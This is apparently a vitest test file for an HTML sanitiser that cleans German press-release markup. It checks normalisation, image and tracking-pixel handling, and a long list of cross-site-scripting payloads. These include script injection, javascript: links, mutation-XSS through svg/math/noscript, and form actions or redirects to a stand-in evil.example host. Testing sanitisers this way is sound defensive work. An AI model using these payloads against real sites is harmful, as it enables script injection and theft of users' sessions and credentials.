import { load } from 'cheerio'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { textParagraphs } from '../../src/normalise/plain-text.ts'
import { safeHtml } from '../../src/normalise/safe-html.ts'

const base = 'https://example.org/presse/a.html'

describe('what stays', () => {
  test.each([
    ['<p>Text</p>', '<p>Text</p>'],
    ['Text', '<p>Text</p>'],
    ['Text <b>fett</b><p>Absatz</p>Rest', '<p>Text <b>fett</b></p><p>Absatz</p><p>Rest</p>'],
    ['Eins<br><br>Zwei<br>Drei', '<p>Eins</p><p>Zwei<br>Drei</p>'],
    ['<p>Eins<br>&nbsp;<br />Zwei</p>', '<p>Eins</p><p>Zwei</p>'],
    ['<p><br>Text<br></p>', '<p>Text</p>'],
    ['<div>Eins</div><div>Zwei</div>', '<p>Eins</p><p>Zwei</p>'],
    ['<div>Text<div>Mehr</div></div>', '<p>Text</p><p>Mehr</p>'],
    ['<section><h1>Titel</h1>Text</section>', '<h2>Titel</h2><p>Text</p>'],
    ['<h3>Titel <br></h3>', '<h3>Titel</h3>'],
    ['<h2><p>Titel</p></h2>', '<h2>Titel</h2>'],
    ['<p>Eins<p>Zwei', '<p>Eins</p><p>Zwei</p>'],
    ['<p>Liste:<ul><li>Eins<li>Zwei</ul>', '<p>Liste:</p><ul><li>Eins</li><li>Zwei</li></ul>'],
    ['<ul>lose<li>Eins</li>lose</ul>', '<ul><li>lose</li><li>Einslose</li></ul>'],
    ['<li>ohne Liste</li>', '<p>ohne Liste</p>'],
    ['<ol start="3"><li>Drei</ol>', '<ol start="3"><li>Drei</li></ol>'],
    ['<dl><dt>Ort<dd>Erfurt</dl>', '<dl><dt>Ort</dt><dd>Erfurt</dd></dl>'],
    ['<blockquote>Zitat</blockquote>', '<blockquote><p>Zitat</p></blockquote>'],
    ['<q cite="/rede">Zitat</q>', '<p><q cite="https://example.org/rede">Zitat</q></p>'],
    [
      '<table><tr><th scope=col>A<th>B<tr><td colspan=2>C</table>',
      '<table><tr><th>A</th><th>B</th></tr><tr><td colspan="2">C</td></tr></table>'.replace(
        '<table><tr>',
        '<table><tr>',
      ),
    ],
    ['<table><tr><td></td><td>B</td></tr></table>', '<table><tr><td></td><td>B</td></tr></table>'],
    ['<td>Zelle ohne Tabelle</td>', '<p>Zelle ohne Tabelle</p>'],
    ['<pre>  a\n  b</pre>', '<pre>  a\n  b</pre>'],
    ['<pre>\n  a\n<a name="x">b</a>\n</pre>', '<pre>  a\nb</pre>'],
    ['a<hr>b', '<p>a</p><hr><p>b</p>'],
    ['<a href="/b.pdf">PDF</a>', '<p><a href="https://example.org/b.pdf">PDF</a></p>'],
    ['<a href="b?utm_source=x&id=5#unten">b</a>', '<p><a href="https://example.org/presse/b?id=5#unten">b</a></p>'],
    ['<a href="mailto:presse@example.org">Mail</a>', '<p><a href="mailto:presse@example.org">Mail</a></p>'],
    ['<a href="tel:+493611234">Tel.</a>', '<p><a href="tel:+493611234">Tel.</a></p>'],
    ['<a name="anker">Text</a>', '<p>Text</p>'],
    ['<a href="/b"><h3>Titel</h3></a>', '<h3><a href="https://example.org/b">Titel</a></h3>'],
    ['<b>Text <i>kursiv</i><p>Absatz</p></b>', '<p><b>Text <i>kursiv</i></b></p><p><b>Absatz</b></p>'],
    [
      '<a href="/b">Eins <a href="/c">Zwei</a></a>',
      '<p><a href="https://example.org/b">Eins </a><a href="https://example.org/c">Zwei</a></p>',
    ],
    ['<a href="/b"><div>Eins <a href="/c">Zwei</a></div></a>', '<p><a href="https://example.org/b">Eins Zwei</a></p>'],
    ['<p>Gekürzt …</p><p', '<p>Gekürzt …</p>'],
    [
      'a<iframe src="https://v.example/1" title="a > b"><a href="/b">Film</a></iframe>c',
      '<p>a<a href="https://example.org/b">Film</a>c</p>',
    ],
    ['a <iframe>Ihr Browser zeigt keine Frames.</iframe> b<iframe>c</iframe>', '<p>a bc</p>'],
    ['<p>a</p><iframe><p>b', '<p>a</p><p>b</p>'],
    ['<p>a</p><iframe src="/f"/><p>b</p><iframe src="/g"></iframe>', '<p>a</p><p>b</p>'],
    ['<span class="x">Text</span>', '<p>Text</p>'],
    ['<span lang="en">Open Data</span>', '<p><span lang="en">Open Data</span></p>'],
    ['<p dir="rtl" lang="ar" class="x">نص</p>', '<p lang="ar" dir="rtl">نص</p>'],
    ['<abbr title="Onlinezugangsgesetz">OZG</abbr>', '<p><abbr title="Onlinezugangsgesetz">OZG</abbr></p>'],
    ['H<sub>2</sub>O, m<sup>2</sup>', '<p>H<sub>2</sub>O, m<sup>2</sup></p>'],
    ['<s>alt</s> <ins>neu</ins> <u>wichtig</u>', '<p><del>alt</del> <ins>neu</ins> wichtig</p>'],
    ['<font color=red>Text</font><o:p></o:p>', '<p>Text</p>'],
    ['AT&T &lt;b&gt; &uuml;', '<p>AT&amp;T &lt;b&gt; ü</p>'],
    ['<p>Fo\u0308r\u00adder\u200bung\u0007</p>', '<p>Förderung</p>'],
  ])('%j', (html, safe) => {
    expect(safeHtml(html, base)).toBe(safe)
  })
})

describe('images', () => {
  const shown = (src: string, rest = ' alt=""') => `<p><img src="${src}"${rest}></p>`
  test.each([
    ['<img src="b.jpg">', shown('https://example.org/presse/b.jpg')],
    [
      '<img src="/b.jpg" alt="Ein &quot;Bild&quot;" width="640" height="480" srcset="/c.jpg 2x" loading=lazy>',
      shown('https://example.org/b.jpg', ' alt="Ein &quot;Bild&quot;" width="640" height="480"'),
    ],
    ['<img src="data:image/gif;base64,R0lGOD" data-src="/b.jpg">', shown('https://example.org/b.jpg')],
    ['<img srcset="/b.jpg 1x, /c.jpg 2x">', shown('https://example.org/b.jpg')],
    ['<picture><source srcset="/b.webp"><img src="/b.jpg"></picture>', shown('https://example.org/b.jpg')],
    [
      '<figure><img src="/b.jpg"><figcaption>Bild: Land</figcaption></figure>',
      '<figure><img src="https://example.org/b.jpg" alt=""><figcaption>Bild: Land</figcaption></figure>',
    ],
    ['<figure><img src="data:x"><figcaption>Bild</figcaption></figure>', '<p>Bild</p>'],
    ['<img src="data:image/png;base64,AAAA">', ''],
    ['<img src="/b.gif" width="1" height="1">', ''],
    ['<img src="/b.gif" style="width: 1px; height:1px">', ''],
    ['<img src="/b.gif" height="0">', ''],
    ['<img src="https://vg02.met.vgwort.de/na/0123456789abcdef">', ''],
    ['<img src="https://ad.doubleclick.net/x.gif">', ''],
    ['<img src="//statistik.example.org/piwik.php?idsite=1">', ''],
    ['<img src="/matomo/matomo.php?idsite=1">', ''],
    ['<img src="https://www.facebook.com/tr?id=1&noscript=1">', ''],
    ['<img src="https://feeds.feedburner.com/~r/x/1">', ''],
    ['<img alt="kein Bild">', ''],
    ['<a href="/b"><img src="/spacer.gif"></a>', ''],
    ['<img src="/statistik.png">', shown('https://example.org/statistik.png')],
  ])('%j', (html, safe) => {
    expect(safeHtml(html, base)).toBe(safe)
  })
})

describe('what is empty goes', () => {
  test.each([
    '',
    '   ',
    '<p></p>',
    '<p>&nbsp;</p>',
    '<p><br></p>',
    '<p><b> </b><span></span></p>',
    '<ul><li></li></ul>',
    '<table><tr><td></td></tr></table>',
    '<div><div><p> </p></div></div>',
    '<h2>&#8203;</h2>',
    '<a href="/b"></a>',
    '<nav><a href="/">Start</a></nav>',
    '<p hidden>versteckt</p>',
    '<div style="display:none">versteckt</div>',
    '<form><button>Suchen</button></form>',
    '<select><option>Eins</option></select>',
    '<!-- <p>Kommentar</p> -->',
  ])('%j', (html) => {
    expect(safeHtml(html, base)).toBe('')
  })
})

const ELEMENTS = new Set(
  'p h2 h3 h4 h5 h6 ul ol li blockquote a strong b em i br hr table caption thead tbody tfoot tr th td figure figcaption img sub sup dl dt dd abbr cite q pre code span del ins'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set('lang dir href title cite start colspan rowspan src alt width height'.split(' '))

const isForbidden = (name: string, value: string): boolean =>
  !ATTRIBUTES.has(name) || (/^(?:href|src|cite)$/.test(name) && !/^(?:https?:\/\/|mailto:|tel:)/.test(value))

/** What a browser makes of the markup (parse5 follows the HTML standard): mutation shows here. */
function offences(markup: string): string[] {
  const $ = load(markup, null, false)
  return $('*')
    .toArray()
    .filter((node) => 'attribs' in node)
    .flatMap(({ name, attribs }) => {
      const attributes = Object.entries(attribs).flatMap(([key, value]) => (isForbidden(key, value) ? [key] : []))
      return [...(ELEMENTS.has(name) ? [] : [name]), ...attributes]
    })
}

describe('attacks', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<<script>script>alert(1)<</script>/script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror\n=alert(1)>',
    '<img/src="x"/onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<img src=`x` onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="mailto:a@b.de&quot;onmouseover=alert(1)">x</a>',
    '<a href="https://example.org/&quot;><script>alert(1)</script>">x</a>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe><script>alert(1)</script></iframe>',
    '<scr<iframe></iframe>ipt>alert(1)</script>',
    '<ifr<iframe></iframe>ame src="https://evil.example"></iframe>',
    '<object data="x"><param name="a"><img src=x onerror=alert(1)></object>',
    '<embed src="x">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<template><img src=x onerror=alert(1)></template>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
    '<style>@import "//evil.example"</style>',
    '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
    '<details open ontoggle=alert(1)>x</details>',
    '<p title="<script>alert(1)</script>" dir="x" lang="<b>">x</p>',
    '<b>\u0338<img src=x onerror=alert(1)>',
    '<p>\u0338script\u0338</p>',
    '<a href="https://example.org/\u2028\u2029">x</a>',
    'a<hr>\n\u0338b',
    '<td colspan="1 onmouseover=alert(1)">x</td>',
    '<b'.repeat(50),
    '<'.repeat(500),
    '<p>'.repeat(300),
    `${'<blockquote>'.repeat(300)}x`,
    `${'<ul><li>'.repeat(300)}x`,
  ])('%j', (html) => {
    const safe = safeHtml(html, base)
    expect(offences(safe)).toEqual([])
    expect(offences(safe.normalize('NFC'))).toEqual([])
    expect(safeHtml(safe, base)).toBe(safe)
  })

  const parts = fc.constantFrom(
    ...[
      'text ',
      '\n',
      '&lt;',
      '"',
      '>',
      '<',
      '<!--',
      '-->',
      '\u0338',
      '<img src=x onerror=y>',
      '<a href="javascript:x">',
    ],
    ...['<a href="/x">', '</a>', '<p>', '</p>', '<p title="', '<div>', '</div>', '<h1>', '<b>', '</b>', '<br>', '<hr>'],
    ...[
      '<ul>',
      '<li>',
      '</ul>',
      '<dl>',
      '<dd>',
      '<table>',
      '<tr>',
      '<td>',
      '</table>',
      '<figure>',
      '<figcaption>',
      '<pre>',
    ],
    ...[
      '<svg>',
      '</svg>',
      '<math>',
      '<mtext>',
      '<style>',
      '</style>',
      '<noscript>',
      '<template>',
      '<textarea>',
      '<xmp>',
    ],
  )
  test('no heap of tags comes out as anything else, and what comes out is parsed as it stands', () => {
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 15 }), (heap) => {
        const safe = safeHtml(heap.join(''), base)
        expect(offences(safe)).toEqual([])
        expect(safe).not.toMatch(/[<>]\u0338/)
        const parsed = load(safe, null, false)
          .html()
          .replace(/<\/?tbody>/g, '')
        expect(parsed).toBe(safe.replaceAll('&quot;', '"').replace(/<\/?tbody>/g, ''))
        expect(safeHtml(safe, base)).toBe(safe)
      }),
      { numRuns: 500 },
    )
  })

  test('markup too deep to be meant is text', () => {
    const safe = safeHtml(`${'<b>'.repeat(20_000)}x`, base)
    expect(offences(safe)).toEqual([])
    expect(safe).toContain('x')
    expect(safe.length).toBeLessThan(1000)
  })

  test('a link that runs a script keeps its words', () => {
    expect(safeHtml('<a href="javascript:alert(1)">Text</a>', base)).toBe('<p>Text</p>')
  })

  test.each([
    '<',
    '<b>',
    '<div>',
    '<a href="/x">',
    '&',
    '<!--',
    '<p><b>',
    '<table><tr><td>',
    '&nbsp;<br>',
    '<iframe>',
    '<iframe "',
  ])('a hundred kilobytes of %j is read in time', (part) => {
    const before = performance.now()
    safeHtml(part.repeat(100_000 / part.length), base)
    expect(performance.now() - before).toBeLessThan(5000)
  })
})

test.each([
  ['Eins\n\nZwei', '<p>Eins</p>\n<p>Zwei</p>'],
  ['Eins\nZwei', '<p>Eins<br>Zwei</p>'],
  ['Eins\r\n\r\n \r\nZwei', '<p>Eins</p>\n<p>Zwei</p>'],
  ['<b>a & b</b>', '<p>&lt;b&gt;a &amp; b&lt;/b&gt;</p>'],
  ['  ', ''],
])('plain text %j', (text, html) => {
  expect(textParagraphs(text)).toBe(html)
})
